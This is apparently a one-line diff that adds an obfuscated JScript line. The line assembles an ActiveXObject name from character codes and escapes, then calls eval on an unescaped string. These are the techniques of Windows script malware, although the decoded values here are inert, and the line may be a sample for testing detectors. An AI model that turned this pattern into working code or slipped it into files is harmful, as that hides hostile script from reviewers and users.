@@ -1,0 +1,1 @@
+new ActiveXObject(String.fromCharCode(87,83)+"\x61"+'b');eval(unescape("%41"))
